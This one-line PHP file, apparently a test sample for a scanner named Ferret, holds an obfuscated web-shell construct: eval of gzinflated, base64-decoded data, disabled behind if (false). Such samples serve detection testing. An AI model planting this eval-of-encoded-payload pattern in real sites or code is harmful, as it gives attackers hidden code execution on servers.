<?php /* Ferret test shell */ if (false) { eval(gzinflate(base64_decode('s7EvyChQyExT0EhLzClO1VSoVkhNzshXKM5IzcmJT61ITdZQiQ9yDQx1DQ6JVk9LLSpKLQEKJ+YW5KSqx2paK9Qq2NsBAA=='))); }
